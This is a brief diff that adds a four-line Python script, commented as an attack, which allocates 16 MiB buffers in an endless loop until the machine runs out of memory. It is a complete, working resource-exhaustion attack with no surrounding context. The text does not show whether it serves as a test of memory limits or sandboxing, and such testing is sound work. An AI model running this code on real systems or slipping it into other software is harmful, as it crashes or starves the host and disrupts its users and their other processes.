@@ -1,0 +1,4 @@
+# Attack: allocate memory until the machine runs out.
+hoard = []
+while True:
+    hoard.append(bytearray(16 << 20))
